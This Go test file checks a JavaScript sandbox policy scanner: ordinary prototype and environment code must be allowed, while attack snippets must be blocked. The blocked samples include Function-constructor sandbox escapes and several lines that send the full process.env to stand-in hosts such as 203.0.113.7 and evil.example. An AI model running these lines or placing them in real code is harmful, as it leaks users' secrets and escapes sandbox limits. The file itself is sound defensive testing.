package scan_test

import (
	"strings"
	"testing"

	"github.com/airlock-run/airlock/policy"
)

// What libraries do to objects of their own is no threat under any tier but strict.
func TestOrdinaryCode(t *testing.T) {
	t.Parallel()
	set := policy.Default()
	for name, code := range map[string]string{
		"an error class": "class E extends Error { constructor() { super(); Object.setPrototypeOf(this, E.prototype) } }\n" +
			"class F extends E { constructor() { super(); Object.setPrototypeOf(this, F.prototype) } }",
		"an object that inherits from arrays": "const o = Object.create(Array.prototype); o.add = 1; o.remove = 2;\n" +
			"Object.defineProperty(o, 'x', {value: 1})",
		"a prototype in a literal": "const base = {}; const a = {__proto__: base}, b = {__proto__: a}; b",
		"classes of ES5": "var extend = Object.setPrototypeOf || ({__proto__: []} instanceof Array && " +
			"function (d, b) { d.__proto__ = b }) || function (d, b) {};\n" +
			"function __extends(d, b) { extend(d, b); function __() { this.constructor = d }\n" +
			"d.prototype = b === null ? Object.create(b) : (__.prototype = b.prototype, new __()) }\n" +
			"function A() {} function B() {} __extends(B, A); B.__proto__ = A",
		"a feature test": "var freeProcess = typeof process == 'object' && process;\n" +
			"try { freeProcess && freeProcess.binding && freeProcess.binding('util') } catch (e) {}",
		"two old copies of debug": strings.Repeat("(() => { function make(fd) {\n"+
			"var tty_wrap = process.binding('tty_wrap'); switch (tty_wrap.guessHandleType(fd)) { case 'TTY': return fd }\n"+
			"} make(process.env.DEBUG_FD) })();\n", 2),
		"the kind of a constructor": "const tag = (v) => Object.prototype.toString.call(v), own = (o, k) => " +
			"Object.prototype.hasOwnProperty.call(o, k);\n[tag(Function), own((() => {}).constructor, 'a')]",
		"an own property named __proto__": "const o = {}; for (const k of Object.keys(input)) if (k === '__proto__') " +
			"Object.defineProperty(o, '__proto__', {value: input[k], enumerable: true}); else o[k] = input[k]",
		"settings of the environment": "const debug = process.env.DEBUG === '1', level = process.env.LEVEL",
		"a setting in a request":      "fetch('https://api.example.com/', {headers: {authorization: process.env.TOKEN}})",
	} {
		if d := set.Decide(policy.Request{Code: code}); d.Effect != policy.Allow {
			t.Errorf("%s: %v", name, d.Violations)
		}
	}
}

// A call that hands Function to something that may call it is an attack.
func TestConstructorThatEscapes(t *testing.T) {
	t.Parallel()
	set := policy.Default()
	for _, code := range []string{
		"const f = Object.prototype.valueOf.call(Function); f('return 1')()",
		"['return 1'].map((s) => Reflect.apply(Function, null, [s]))",
		"Function.prototype.call.call(Function, null, 'return 1')()",
		"Array.prototype.map.call(['return 1'], Function)",
	} {
		if d := set.Decide(policy.Request{Code: code}); d.Effect == policy.Allow {
			t.Errorf("%s is allowed: %+v", code, d.Analysis)
		}
	}
}

// A request that carries the whole environment is an attack under every tier.
func TestEnvironmentInRequest(t *testing.T) {
	t.Parallel()
	set := policy.Default()
	for name, code := range map[string]string{
		"as JSON":      "fetch('http://203.0.113.7/c', {method: 'POST', body: JSON.stringify(process.env)})",
		"by a name":    "const e = process.env; const body = JSON.stringify(e); fetch('http://203.0.113.7/c', {body})",
		"in an object": "fetch('https://evil.example/', {body: JSON.stringify({env: process.env})})",
		"by https":     "require('https').request('https://203.0.113.7/', {headers: process.env})",
		"in a function": "async function send(data) { await fetch('http://203.0.113.7', {body: JSON.stringify(data)}) }\n" +
			"await send(process.env)",
	} {
		for _, tier := range policy.Builtin() {
			if d := set.Decide(policy.Request{Code: code, Tier: tier.Name}); d.Effect == policy.Allow {
				t.Errorf("%s is allowed under %s: %+v", name, tier.Name, d.Analysis)
			}
		}
	}
}

// A file beside the code exports, and requires files and packages beside it.
func TestFilesThatRequire(t *testing.T) {
	t.Parallel()
	d := policy.Default().Decide(policy.Request{Tier: "strict", Code: "1", Files: map[string]string{
		"node_modules/a/index.js": "module.exports = require('./lib/x'); exports.y = require('b'); " +
			"exports.z = require('@s/c/d')",
		"node_modules/a/lib/x.js":         "module.exports = require('../index'); exports.z = require('./y')",
		"node_modules/a/lib/y/index.js":   "exports.b = 1; exports.c = 2",
		"node_modules/b/package.json":     "{}",
		"node_modules/@s/c/d.js":          "exports.d = 1; exports.e = 2",
		"node_modules/a/lib/another.json": "{}",
	}})
	if d.Effect != policy.Allow || d.Analysis.Score != 0 {
		t.Errorf("%+v %v", d.Analysis, d.Violations)
	}
}
